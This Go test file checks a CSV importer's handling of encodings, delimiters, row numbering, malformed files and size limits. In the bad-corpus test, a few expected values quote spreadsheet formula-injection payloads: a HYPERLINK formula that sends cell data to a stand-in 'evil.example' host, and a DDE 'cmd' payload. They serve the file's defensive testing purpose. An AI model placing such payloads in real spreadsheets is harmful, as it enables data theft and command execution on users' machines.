package csvio

import (
	"bytes"
	"encoding/csv"
	"errors"
	"fmt"
	"io"
	"math/rand/v2"
	"os"
	"path/filepath"
	"reflect"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"golang.org/x/text/encoding/charmap"
	"golang.org/x/text/encoding/unicode"
	"golang.org/x/text/transform"

	"roster"
)

// row is one result of Reader.Read, for comparing.
type row struct {
	Num int
	Rec []string
	Err string // the error's text, "" for none
}

// readAll reads every row of data. It stops at io.EOF or at a fatal error,
// which it returns.
func readAll(t *testing.T, data []byte, lim Limits) (*Reader, []row, error) {
	t.Helper()
	r, err := NewReader(bytes.NewReader(data), int64(len(data)), lim)
	if err != nil {
		return nil, nil, err
	}
	var rows []row
	for {
		rec, n, err := r.Read()
		if err == io.EOF {
			return r, rows, nil
		}
		var re *RowError
		if err != nil && !errors.As(err, &re) {
			return r, rows, err
		}
		got := row{Num: n, Rec: rec}
		if err != nil {
			got.Err = err.Error()
		}
		rows = append(rows, got)
	}
}

func mustEncode(t *testing.T, s string, tr transform.Transformer) []byte {
	t.Helper()
	b, _, err := transform.Bytes(tr, []byte(s))
	if err != nil {
		t.Fatalf("encode %q: %v", s, err)
	}
	return b
}

func TestReader_Encodings(t *testing.T) {
	const text = "email,first_name,city,bio\r\n" +
		"anne@example.com,Hélène,Orléans,\"Coût: 5 €, l’été\"\r\n" +
		"bob@example.com,Bob,Zürich,\r\n"
	want := [][]string{
		{"anne@example.com", "Hélène", "Orléans", "Coût: 5 €, l’été"},
		{"bob@example.com", "Bob", "Zürich", ""},
	}
	utf16le := mustEncode(t, text, unicode.UTF16(unicode.LittleEndian, unicode.IgnoreBOM).NewEncoder())
	utf16be := mustEncode(t, text, unicode.UTF16(unicode.BigEndian, unicode.IgnoreBOM).NewEncoder())
	tests := []struct {
		name string
		data []byte
		enc  string
	}{
		{"UTF-8", []byte(text), EncodingUTF8},
		{"UTF-8 BOM", append([]byte("\xEF\xBB\xBF"), text...), EncodingUTF8BOM},
		{"UTF-16LE BOM", append([]byte{0xFF, 0xFE}, utf16le...), EncodingUTF16LE},
		{"UTF-16BE BOM", append([]byte{0xFE, 0xFF}, utf16be...), EncodingUTF16BE},
		{"UTF-16LE no BOM", utf16le, EncodingUTF16LE},
		{"UTF-16BE no BOM", utf16be, EncodingUTF16BE},
		{"Windows-1252", mustEncode(t, text, charmap.Windows1252.NewEncoder()), EncodingWindows1252},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r, rows, err := readAll(t, tt.data, Limits{})
			if err != nil {
				t.Fatal(err)
			}
			if got := r.Encoding(); got != tt.enc {
				t.Errorf("Encoding() = %q, want %q", got, tt.enc)
			}
			if got, want := r.Header(), []string{"email", "first_name", "city", "bio"}; !reflect.DeepEqual(got, want) {
				t.Errorf("Header() = %q, want %q", got, want)
			}
			var got [][]string
			for _, row := range rows {
				if row.Err != "" {
					t.Errorf("row %d: %s", row.Num, row.Err)
				}
				got = append(got, row.Rec)
			}
			if !reflect.DeepEqual(got, want) {
				t.Errorf("records = %q, want %q", got, want)
			}
			if r.Offset() != int64(len(tt.data)) {
				t.Errorf("Offset() = %d at the end, want %d", r.Offset(), len(tt.data))
			}
		})
	}
}

func TestReader_Delimiters(t *testing.T) {
	tests := []struct {
		name   string
		in     string
		delim  rune
		header []string
		first  []string
	}{
		{"comma", "email,city\na@x.io,Paris\n", ',', []string{"email", "city"}, []string{"a@x.io", "Paris"}},
		{"semicolon", "email;city\na@x.io;Paris, France\n", ';', []string{"email", "city"}, []string{"a@x.io", "Paris, France"}},
		{"tab", "email\tcity\ta\na@x.io\tParis; France\t\n", '\t', []string{"email", "city", "a"}, []string{"a@x.io", "Paris; France", ""}},
		{"quoted delimiters ignored", "\"a,b,c\";email\nx;y\n", ';', []string{"a,b,c", "email"}, []string{"x", "y"}},
		{"quoted newline in header", "\"first\nname\";email;x\na;b;c\n", ';', []string{"first\nname", "email", "x"}, []string{"a", "b", "c"}},
		{"single column", "email\na@x.io\n", ',', []string{"email"}, []string{"a@x.io"}},
		{"tie broken by the next line", "a,b;c\n1;2\n", ';', []string{"a,b", "c"}, []string{"1", "2"}},
		{"excel sep line", "sep=;\r\nemail;city,x\r\na@x.io;Lyon,y\r\n", ';', []string{"email", "city,x"}, []string{"a@x.io", "Lyon,y"}},
		{"spaces trimmed in header", " email , city \nx,y\n", ',', []string{"email", "city"}, []string{"x", "y"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r, rows, err := readAll(t, []byte(tt.in), Limits{})
			if err != nil {
				t.Fatal(err)
			}
			if r.Delimiter() != tt.delim {
				t.Errorf("Delimiter() = %q, want %q", r.Delimiter(), tt.delim)
			}
			if got := r.Header(); !reflect.DeepEqual(got, tt.header) {
				t.Errorf("Header() = %q, want %q", got, tt.header)
			}
			if len(rows) == 0 {
				t.Fatal("no rows")
			}
			if rows[0].Err != "" {
				t.Errorf("first row error: %s", rows[0].Err)
			}
			if !reflect.DeepEqual(rows[0].Rec, tt.first) {
				t.Errorf("first record = %q, want %q", rows[0].Rec, tt.first)
			}
		})
	}
}

func TestReader_RowNumbers(t *testing.T) {
	tests := []struct {
		name string
		in   string
		want []row
	}{
		{"plain CRLF", "a,b\r\n1,2\r\n3,4\r\n", []row{{2, []string{"1", "2"}, ""}, {3, []string{"3", "4"}, ""}}},
		{"no final newline", "a,b\n1,2\n3,4", []row{{2, []string{"1", "2"}, ""}, {3, []string{"3", "4"}, ""}}},
		{"quoted newlines are one row", "a,b\n\"x\ny\",\"p\r\nq\"\n3,4\n", []row{
			{2, []string{"x\ny", "p\nq"}, ""}, {3, []string{"3", "4"}, ""}}},
		{"quoted newline in last cell", "a,b\n1,\"x\n\ny\"\n3,4\n", []row{
			{2, []string{"1", "x\n\ny"}, ""}, {3, []string{"3", "4"}, ""}}},
		{"blank lines count", "a,b\n\n1,2\r\n\r\n\n3,4\n", []row{{3, []string{"1", "2"}, ""}, {6, []string{"3", "4"}, ""}}},
		{"empty cells rows skipped but counted", "a,b\n,\n1,2\n , \n,,\n3,4\n", []row{{3, []string{"1", "2"}, ""}, {6, []string{"3", "4"}, ""}}},
		{"blank lines before the header", "\n\na,b\n1,2\n", []row{{4, []string{"1", "2"}, ""}}},
		{"sep line is not a row", "sep=,\na,b\n1,2\n", []row{{2, []string{"1", "2"}, ""}}},
		{"classic Mac line ends", "a,b\r1,2\r\r3,4\r", []row{{2, []string{"1", "2"}, ""}, {4, []string{"3", "4"}, ""}}},
		{"doubled quotes", "a,b\n\"say \"\"hi\"\"\",2\n", []row{{2, []string{`say "hi"`, "2"}, ""}}},
		{"extra blank cells dropped", "a,b\n1,2,,\n", []row{{2, []string{"1", "2"}, ""}}},
		{"after a bad row", "a,b\n1,\"x\ny\"z\n3,4\n", []row{
			{2, nil, "row 2: a quoted cell is not closed properly: its closing double quote (\") must be followed by a delimiter or the end of the line"},
			{3, []string{"3", "4"}, ""}}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, rows, err := readAll(t, []byte(tt.in), Limits{})
			if err != nil {
				t.Fatal(err)
			}
			if !reflect.DeepEqual(rows, tt.want) {
				t.Errorf("rows:\n got %+v\nwant %+v", rows, tt.want)
			}
		})
	}
}

func TestReader_RowErrors(t *testing.T) {
	tests := []struct {
		name string
		in   string
		want []string // the error of each row, "" for a good row
	}{
		{"too few cells", "a,b,c\n1,2\n1,2,3\n", []string{"row 2: the row has 2 cells but the header has 3", ""}},
		{"too many cells", "a,b\n1,Paris, France\n1,2\n", []string{
			"row 2: the row has 3 cells but the header has 2; a value that contains a comma must be put in double quotes", ""}},
		{"NUL", "a,b\n1,x\x00y\n1,2\n", []string{"row 2, column b: the cell contains a NUL character: the file may be damaged", ""}},
		{"invalid UTF-8", "a,b\nÉlodie,Hélène Gérard Frédéric Zoé\nÉlodie,Hélène Gérard Frédéric Zoé\n1,\xE9t\xE9\n1,2\n", []string{"", "", `row 4, column b: the cell is not valid UTF-8 text; save the file as "CSV UTF-8"`, ""}},
		{"bare quote", "a,b\n1,x\"y\n1,2\n", []string{`row 2: a cell that does not start with a double quote (") contains one; a cell with quotes must be written "like ""this"""`, ""}},
		{"cell too long", "a,b\n1," + strings.Repeat("x", 2000) + "\n1,2\n", []string{"row 2, column b: the cell holds 2.0 KB; the limit is 1.0 KB", ""}},
		{"no header name", "a,,b\n1,\x00,2\n", []string{"row 2: column 2: the cell contains a NUL character: the file may be damaged"}},
		{"quote not closed on the last line", "a,b\n1,2\n3,\"4\n", []string{"", `row 3: a quoted cell is not closed properly: its closing double quote (") must be followed by a delimiter or the end of the line`}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, rows, err := readAll(t, []byte(tt.in), Limits{MaxCellBytes: 1024})
			if err != nil {
				t.Fatal(err)
			}
			var got []string
			for _, r := range rows {
				got = append(got, r.Err)
			}
			if !reflect.DeepEqual(got, tt.want) {
				t.Errorf("errors:\n got %q\nwant %q", got, tt.want)
			}
		})
	}
}

func TestReader_Windows1252UndefinedByte(t *testing.T) {
	// Past the sniffed sample a byte Windows-1252 does not define is a row
	// error, not a wrong letter.
	var b bytes.Buffer
	b.WriteString("name,city\n")
	for b.Len() < bufSize+100 {
		b.WriteString("H\xE9l\xE8ne,Orl\xE9ans\n")
	}
	b.WriteString("x\x81y,z\n")
	_, rows, err := readAll(t, b.Bytes(), Limits{})
	if err != nil {
		t.Fatal(err)
	}
	last := rows[len(rows)-1]
	if want := "column name: the cell contains bytes that are not Windows-1252 text"; !strings.Contains(last.Err, want) {
		t.Errorf("last row error = %q, want %q", last.Err, want)
	}
	if rows[0].Rec[0] != "Hélène" {
		t.Errorf("first cell = %q, want Hélène", rows[0].Rec[0])
	}
}

func TestReader_Fatal(t *testing.T) {
	many := "a,b\n" + strings.Repeat("1,2\n", 11)
	long := "a,b\n1,2\n" + strings.Repeat("x", 200<<10) + "\n3,4\n"
	runaway := "a,b\n1,2\n3,\"4\n" + strings.Repeat("5,6\n", 60<<10)
	tests := []struct {
		name  string
		in    string
		lim   Limits
		rows  int // good or bad rows before the error
		want  string
		exact bool
	}{
		{"unterminated quote", "a,b\n1,2\n3,\"4\n5,6\n7,8\n", Limits{}, 1, "line 3: a quoted field is not closed: the quote runs to the end of the file", true},
		{"too many rows", many, Limits{MaxRows: 10}, 10, "the file has more than 10 rows, the most one import can take; split it into several files", true},
		{"line too long", long, Limits{MaxRecordBytes: 1000}, 1, "line 3: a row is longer than the limit of 1000 bytes; check that every quoted cell has its closing quote", true},
		{"runaway quote", runaway, Limits{MaxRecordBytes: 1000}, 1, "line 3: a row is longer than the limit of 1000 bytes", false},
		{"header but no rows", "a,b\n\n,\n", Limits{}, 0, "the file has a header but no rows", true},
		{"too big while reading", "a,b\n" + strings.Repeat("1,2\n", 100<<10), Limits{MaxBytes: 100 << 10}, -1, "the file is larger than the limit of 100.0 KB", true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r, err := NewReader(strings.NewReader(tt.in), -1, tt.lim)
			if err != nil {
				t.Fatal(err)
			}
			n := 0
			for {
				_, _, err = r.Read()
				var re *RowError
				if err == nil || errors.As(err, &re) {
					n++
					continue
				}
				break
			}
			if err == io.EOF {
				t.Fatalf("read %d rows to the end, want error %q", n, tt.want)
			}
			if code := roster.ErrorCode(err); code != roster.EINVALID {
				t.Errorf("code = %q, want %q (%v)", code, roster.EINVALID, err)
			}
			msg := roster.ErrorMessage(err)
			if tt.exact && msg != tt.want || !strings.Contains(msg, tt.want) {
				t.Errorf("message = %q, want %q", msg, tt.want)
			}
			if tt.rows >= 0 && n != tt.rows {
				t.Errorf("read %d rows before the error, want %d", n, tt.rows)
			}
			if _, _, again := r.Read(); again != err {
				t.Errorf("next Read = %v, want the same error again", again)
			}
		})
	}
}

func TestNewReader_Errors(t *testing.T) {
	tests := []struct {
		name string
		in   string
		want string
	}{
		{"empty", "", "the file is empty"},
		{"BOM only", "\xEF\xBB\xBF", "the file is empty"},
		{"UTF-16 BOM only", "\xFF\xFE", "the file is empty"},
		{"blank lines only", "\r\n\n\n", "the file is empty"},
		{"empty header", ",,\n1,2,3\n", "the first row must hold the column names, but it is empty"},
		{"workbook", "PK\x03\x04\x14\x00\x06\x00", `this is a spreadsheet workbook (or another archive), not a CSV file; in your spreadsheet, use "Save as" and choose "CSV UTF-8"`},
		{"old workbook", "\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1\x00\x00", "this is a spreadsheet workbook"},
		{"pdf", "%PDF-1.7\n", "this is a PDF document, not a CSV file"},
		{"binary", "\x01\x02\x03a,b\x04\x05\x06\x07\x08\x0b\x0c", "the file does not look like a CSV file: it holds binary data, not text"},
		{"header too long", strings.Repeat("x", 2000) + "\n1\n", "the name of column 1 in the header row is longer than 1024 characters"},
		{"header with NUL", "a,b\x00\n1,2\n", "the header row (row 1), column 2: the cell contains a NUL character"},
		{"header bare quote", "a,b\"c\n1,2\n", "the header row (row 1) cannot be read: a cell that does not start with a double quote"},
		{"header quote never closed", "a,\"b\n1,2\n3,4\n", "line 1: a quoted field is not closed"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := NewReader(strings.NewReader(tt.in), int64(len(tt.in)), Limits{})
			if err == nil {
				t.Fatalf("no error, want %q", tt.want)
			}
			if roster.ErrorCode(err) != roster.EINVALID {
				t.Errorf("code = %q, want invalid (%v)", roster.ErrorCode(err), err)
			}
			if msg := roster.ErrorMessage(err); !strings.Contains(msg, tt.want) {
				t.Errorf("message = %q, want %q", msg, tt.want)
			}
		})
	}
}

func TestNewReader_ShiftJIS(t *testing.T) {
	// 名前,メール / 山田太郎,taro@example.jp / 東京都,ok in Shift-JIS.
	sjis := []byte("\x96\xbc\x91\x4f,\x83\x81\x81\x5b\x83\x8b\r\n" +
		"\x8e\x52\x93\x63\x91\xbe\x98\x59,taro@example.jp\r\n" +
		"\x93\x8c\x8b\x9e\x93\x73,ok\r\n")
	_, err := NewReader(bytes.NewReader(sjis), int64(len(sjis)), Limits{})
	want := `the file's text encoding was not recognised; save it as "CSV UTF-8" and try again`
	if msg := roster.ErrorMessage(err); msg != want {
		t.Errorf("error = %v, want %q", err, want)
	}
}

func TestNewReader_TooBig(t *testing.T) {
	path := filepath.Join(t.TempDir(), "huge.csv")
	f, err := os.Create(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if err := os.Truncate(path, 2<<30); err != nil { // sparse: no disk used
		t.Fatal(err)
	}
	fi, err := f.Stat()
	if err != nil {
		t.Fatal(err)
	}
	cr := &countingReader{r: f}
	_, err = NewReader(cr, fi.Size(), Limits{})
	if want := "the file is 2.0 GB; the limit is 1.0 GB"; roster.ErrorMessage(err) != want {
		t.Errorf("error = %v, want %q", err, want)
	}
	if cr.n != 0 {
		t.Errorf("read %d bytes before refusing, want 0", cr.n)
	}
}

type countingReader struct {
	r io.Reader
	n int
}

func (c *countingReader) Read(p []byte) (int, error) {
	n, err := c.r.Read(p)
	c.n += n
	return n, err
}

func TestReader_HugeCell(t *testing.T) {
	// A 10 MB cell is a row error; the rows after it still read.
	var b bytes.Buffer
	b.WriteString("email,bio\na@x.io,short\nb@x.io,\"")
	b.Write(bytes.Repeat([]byte("lorem, \"\"ipsum!\n"), 10<<20/16)) // 16 bytes, 15 in the cell
	b.WriteString("\"\nc@x.io,end\n")
	_, rows, err := readAll(t, b.Bytes(), Limits{})
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 3 {
		t.Fatalf("read %d rows, want 3", len(rows))
	}
	if want := "row 3, column bio: the cell holds 9.4 MB; the limit is 1.0 MB"; rows[1].Err != want {
		t.Errorf("row error = %q, want %q", rows[1].Err, want)
	}
	if got := rows[2]; got.Err != "" || got.Rec[0] != "c@x.io" {
		t.Errorf("row after the huge cell = %+v", got)
	}
	if rows[2].Num != 4 {
		t.Errorf("row number after the huge cell = %d, want 4", rows[2].Num)
	}
}

func TestReader_ReadError(t *testing.T) {
	boom := errors.New("disk on fire")
	in := io.MultiReader(strings.NewReader("a,b\n1,2\n"), errReader{boom})
	r, err := NewReader(in, -1, Limits{})
	if !errors.Is(err, boom) {
		t.Fatalf("NewReader error = %v, want it to wrap %v", err, boom)
	}
	if r != nil {
		t.Error("got a Reader with the error")
	}
}

type errReader struct{ err error }

func (e errReader) Read([]byte) (int, error) { return 0, e.err }

func TestRowError_Error(t *testing.T) {
	tests := []struct {
		err  *RowError
		want string
	}{
		{&RowError{Row: 7, Column: "email", Message: "bad"}, "row 7, column email: bad"},
		{&RowError{Row: 7, Message: "bad"}, "row 7: bad"},
	}
	for _, tt := range tests {
		if got := tt.err.Error(); got != tt.want {
			t.Errorf("Error() = %q, want %q", got, tt.want)
		}
	}
}

func TestFormatSize(t *testing.T) {
	tests := []struct {
		n    int64
		want string
	}{
		{0, "0 bytes"}, {1023, "1023 bytes"}, {1024, "1.0 KB"}, {1 << 20, "1.0 MB"},
		{3 << 29, "1.5 GB"}, {2 << 30, "2.0 GB"},
	}
	for _, tt := range tests {
		if got := formatSize(tt.n); got != tt.want {
			t.Errorf("formatSize(%d) = %q, want %q", tt.n, got, tt.want)
		}
	}
	if got := thousands(5000000); got != "5,000,000" {
		t.Errorf("thousands = %q", got)
	}
}

// transcript reads data the way the importer does and writes down every
// message and every decoded value, one per line.
func transcript(data []byte, reg *roster.Registry) []string {
	var out []string
	r, err := NewReader(bytes.NewReader(data), int64(len(data)), Limits{})
	if err != nil {
		return append(out, "error: "+roster.ErrorMessage(err))
	}
	cols, unknown, err := MatchHeader(r.Header(), reg, nil)
	if err != nil {
		out = append(out, "error: "+roster.ErrorMessage(err))
	}
	if len(unknown) > 0 {
		out = append(out, "unknown: "+strings.Join(unknown, ", "))
	}
	for {
		rec, n, err := r.Read()
		if err == io.EOF {
			return out
		}
		var re *RowError
		if errors.As(err, &re) {
			out = append(out, "error: "+re.Error())
			continue
		} else if err != nil {
			return append(out, "error: "+roster.ErrorMessage(err))
		}
		values, errs := DecodeRow(cols, rec, n)
		for _, e := range errs {
			out = append(out, "error: "+e.Error())
		}
		keys := make([]string, 0, len(values))
		for k := range values {
			keys = append(keys, k)
		}
		slices.Sort(keys)
		for _, k := range keys {
			out = append(out, fmt.Sprintf("row %d %s=%#v", n, k, values[k]))
		}
	}
}

func TestBadCorpus(t *testing.T) {
	tests := []struct {
		file  string
		want  []string // each is part of some line of the transcript
		clean bool     // no error at all
	}{
		{"empty.csv", []string{"error: the file is empty"}, false},
		{"header_only.csv", []string{"error: the file has a header but no rows"}, false},
		{"empty_header.csv", []string{"error: the first row must hold the column names, but it is empty"}, false},
		{"binary.bin", []string{"error: the file does not look like a CSV file: it holds binary data, not text"}, false},
		{"shift_jis.csv", []string{`error: the file's text encoding was not recognised; save it as "CSV UTF-8" and try again`}, false},
		{"workbook.xlsx", []string{"error: this is a spreadsheet workbook (or another archive), not a CSV file"}, false},
		{"ragged.csv", []string{
			"error: row 3: the row has 3 cells but the header has 4",
			"error: row 4: the row has 5 cells but the header has 4; a value that contains a comma must be put in double quotes",
			`row 5 city="London"`}, false},
		{"nul_bytes.csv", []string{"error: row 3, column first_name: the cell contains a NUL character", `row 4 first_name="Carla"`}, false},
		{"duplicate_headers.csv", []string{"error: columns 1 and 3 (email, Email) both fill email; " +
			"columns 2 and 4 (First name, first_name) both fill first_name; " +
			`the header repeats "Notes" (columns 5 and 6)`}, false},
		{"unknown_columns.csv", []string{"unknown: Shoe size, Favourite colour, Loyalty tier", `row 2 first_name="Anne"`}, true},
		{"formula_payloads.csv", []string{
			`row 2 first_name="=1+1"`, `row 2 last_name="-Anne"`, `row 2 mobile_phone="+33612345678"`, `row 2 bio="@SUM(A1)"`,
			`row 3 first_name="=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"`, `row 3 last_name="-Bob"`,
			`row 3 mobile_phone="+33 6 12 34 56 78"`, `row 3 bio="=cmd|' /C calc'!A0"`}, true},
		{"invalid_emails.csv", []string{`row 2 email="not-an-email"`, `row 3 email="a@b@c"`, `row 5 email="anne martin@example.com"`}, true},
		{"bad_dates.csv", []string{
			`error: row 2, column birth_date: "31/02/2020" is not a date in the form YYYY-MM-DD`,
			`error: row 3, column birth_date: "2020-02-31" is not a date in the form YYYY-MM-DD`,
			`error: row 3, column last_login: "yesterday" is not a time`,
			`error: row 3, column newsletter_at: "2024-13-01" is not a time`,
			`row 4 birth_date=roster.Date{Year:1990, Month:1, Day:1}`}, false},
		{"bad_values.csv", []string{
			`error: row 2, column points: "12abc" is not a whole number`,
			`error: row 2, column newsletter: "maybe" is not true or false`,
			"error: row 2, column addresses: must be an array of addresses",
			`error: row 3, column points: "1e3" is not a whole number`,
			"error: row 3, column addresses: must be an array of addresses",
			`row 2 country="FR"`}, false},
		{"unterminated_quote.csv", []string{`row 2 first_name="Anne"`, "error: line 3: a quoted field is not closed"}, false},
		{"bare_quote.csv", []string{
			`error: row 2: a cell that does not start with a double quote (") contains one`,
			`row 3 bio="the \"right\" way"`,
			"error: row 4: a quoted cell is not closed properly",
			`row 5 first_name="Dan"`}, false},
		{"invalid_utf8.csv", []string{`error: row 5, column first_name: the cell is not valid UTF-8 text; save the file as "CSV UTF-8"`,
			`row 2 first_name="Hélène"`, `row 6 city="Nîmes"`}, false},
	}
	dir := filepath.Join("testdata", "bad")
	reg := roster.NewRegistry(nil)
	listed := map[string]bool{"README.txt": true}
	for _, tt := range tests {
		listed[tt.file] = true
		t.Run(tt.file, func(t *testing.T) {
			data, err := os.ReadFile(filepath.Join(dir, tt.file))
			if err != nil {
				t.Fatal(err)
			}
			lines := transcript(data, reg)
			text := strings.Join(lines, "\n")
			for _, w := range tt.want {
				if !strings.Contains(text, w) {
					t.Errorf("missing %q in:\n%s", w, text)
				}
			}
			if tt.clean && strings.Contains(text, "error: ") {
				t.Errorf("errors in a file that decodes:\n%s", text)
			}
		})
	}
	entries, err := os.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range entries {
		if !listed[e.Name()] {
			t.Errorf("testdata/bad/%s has no line in TestBadCorpus", e.Name())
		}
	}
}

// benchFile writes n users the way an export does: every built-in exported
// column, cells escaped, CRLF line ends, realistic values with some empty.
func benchFile(tb testing.TB, n int) []byte {
	tb.Helper()
	header := []string{"id", "client_id", "app_id", "stripe_id", "email", "email_confirmed", "first_name", "last_name",
		"mobile_phone", "home_phone", "bio", "birth_date", "city", "country", "addresses", "profile_image_url",
		"cover_image_url", "social_links", "store_location", "teams", "push_tokens", "created_at", "updated_at",
		"last_interaction", "last_visit", "last_login", "points", "roles", "badges", "missions", "tags", "groups",
		"smart_type", "instagram_followers", "tiktok_followers", "youtube_followers", "total_followers", "status",
		"newsletter", "newsletter_at"}
	firsts := []string{"Anne", "Hélène", "José", "Zoë", "Mohammed", "Li", "Olivia", "Noah", "Chloé", "Søren"}
	lasts := []string{"Martin", "Dubois", "García", "Müller", "O'Brien", "Nguyen", "Rossi", "Kowalski", "Smith", "Leroy"}
	cities := []string{"Paris", "Lyon", "Zürich", "São Paulo", "Montréal", "Berlin", "Kraków", "Madrid", "Milano", "London"}
	countries := []string{"FR", "FR", "CH", "BR", "CA", "DE", "PL", "ES", "IT", "GB"}
	rng := rand.New(rand.NewPCG(1, 2))
	pick := func(s []string) string { return s[rng.IntN(len(s))] }
	maybe := func(p float64, s string) string {
		if rng.Float64() < p {
			return s
		}
		return ""
	}
	ts := func() string {
		return time.Unix(1_600_000_000+rng.Int64N(150_000_000), 0).UTC().Format(time.RFC3339)
	}
	var buf bytes.Buffer
	w := csv.NewWriter(&buf)
	w.UseCRLF = true
	w.Write(header)
	rec := make([]string, len(header))
	for i := range n {
		first, last, city := pick(firsts), pick(lasts), rng.IntN(len(cities))
		ig, tt, yt := rng.Int64N(5000), rng.Int64N(20000), rng.Int64N(1000)
		rec = append(rec[:0],
			"u_"+strconv.FormatInt(int64(i)*7919+100000, 36),
			maybe(0.6, "sso-"+strconv.Itoa(rng.IntN(1e9))),
			maybe(0.3, "app-"+strconv.Itoa(i)),
			maybe(0.2, "cus_"+strconv.FormatUint(rng.Uint64(), 36)),
			strings.ToLower(first)+"."+strconv.Itoa(i)+"@example.com",
			strconv.FormatBool(rng.IntN(3) > 0),
			first, last,
			maybe(0.7, fmt.Sprintf("+336%08d", rng.IntN(1e8))),
			maybe(0.2, fmt.Sprintf("+331%08d", rng.IntN(1e8))),
			maybe(0.3, "Loves hiking, cooking and "+pick(cities)+".\nSecond line, with \"quotes\"."),
			maybe(0.8, fmt.Sprintf("%04d-%02d-%02d", 1950+rng.IntN(55), 1+rng.IntN(12), 1+rng.IntN(28))),
			cities[city], countries[city],
			maybe(0.3, `[{"label":"home","line1":"`+strconv.Itoa(1+rng.IntN(200))+` rue de la Paix","city":"`+cities[city]+`","postal_code":"75002","country":"`+countries[city]+`"}]`),
			maybe(0.5, "https://cdn.example.com/p/"+strconv.Itoa(i)+".jpg"),
			maybe(0.2, "https://cdn.example.com/c/"+strconv.Itoa(i)+".jpg"),
			maybe(0.2, `[{"network":"instagram","url":"https://instagram.com/u`+strconv.Itoa(i)+`"}]`),
			maybe(0.4, "Store "+strconv.Itoa(rng.IntN(50))),
			maybe(0.5, "red|blue"),
			maybe(0.4, `[{"platform":"ios","token":"`+strconv.FormatUint(rng.Uint64(), 16)+strconv.FormatUint(rng.Uint64(), 16)+`"}]`),
			ts(), ts(), maybe(0.9, ts()), maybe(0.9, ts()), maybe(0.8, ts()),
			strconv.Itoa(rng.IntN(10000)),
			maybe(0.3, "member|moderator"), maybe(0.4, "early-bird|top-fan|helper"), maybe(0.3, "onboarding|first-post"),
			maybe(0.6, "vip|newsletter 2024"), maybe(0.5, "Beta testers|Paris club"),
			maybe(0.5, "Beta testers"),
			strconv.FormatInt(ig, 10), strconv.FormatInt(tt, 10), strconv.FormatInt(yt, 10), strconv.FormatInt(ig+tt+yt, 10),
			pick([]string{"active", "active", "active", "invited", "pending", "banned"}),
			strconv.FormatBool(rng.IntN(2) == 0),
			maybe(0.5, ts()),
		)
		for j, c := range rec {
			rec[j] = EscapeCell(c)
		}
		w.Write(rec)
	}
	w.Flush()
	if err := w.Error(); err != nil {
		tb.Fatal(err)
	}
	return buf.Bytes()
}

// BenchmarkDecode reads 100,000 exported users (40 columns) and reports the
// time per row: reading only, reading and DecodeRow, and the same from a
// Windows-1252 file, which goes through a decoder.
func BenchmarkDecode(b *testing.B) {
	const rows = 100_000
	utf8File := benchFile(b, rows)
	cp1252File, _, err := transform.Bytes(charmap.Windows1252.NewEncoder(), utf8File)
	if err != nil {
		b.Fatal(err)
	}
	reg := roster.NewRegistry(nil)
	for _, bb := range []struct {
		name   string
		data   []byte
		decode bool
	}{
		{"Read", utf8File, false},
		{"ReadDecodeRow", utf8File, true},
		{"Windows1252/ReadDecodeRow", cp1252File, true},
	} {
		b.Run(bb.name, func(b *testing.B) {
			b.SetBytes(int64(len(bb.data)))
			b.ReportAllocs()
			for b.Loop() {
				r, err := NewReader(bytes.NewReader(bb.data), int64(len(bb.data)), Limits{})
				if err != nil {
					b.Fatal(err)
				}
				cols, unknown, err := MatchHeader(r.Header(), reg, nil)
				if err != nil || len(unknown) > 0 {
					b.Fatal(err, unknown)
				}
				n := 0
				for {
					rec, row, err := r.Read()
					if err == io.EOF {
						break
					} else if err != nil {
						b.Fatal(err)
					}
					n++
					if bb.decode {
						if _, errs := DecodeRow(cols, rec, row); len(errs) > 0 {
							b.Fatal(errs[0])
						}
					}
				}
				if n != rows {
					b.Fatalf("read %d rows, want %d", n, rows)
				}
			}
			b.ReportMetric(float64(b.Elapsed().Nanoseconds())/float64(b.N)/rows, "ns/row")
		})
	}
}

func TestHasReplacement(t *testing.T) {
	for s, want := range map[string]bool{"": false, "abc": false, "a\uFFFDb": true, "\uFFFD": true,
		"\uFEFFx": false, "\uFEFF\uFFFD": true, "é€’": false, "\xEF": false, "\xEF\xBF": false} {
		if got := hasReplacement(s); got != want {
			t.Errorf("hasReplacement(%q) = %v", s, got)
		}
	}
}
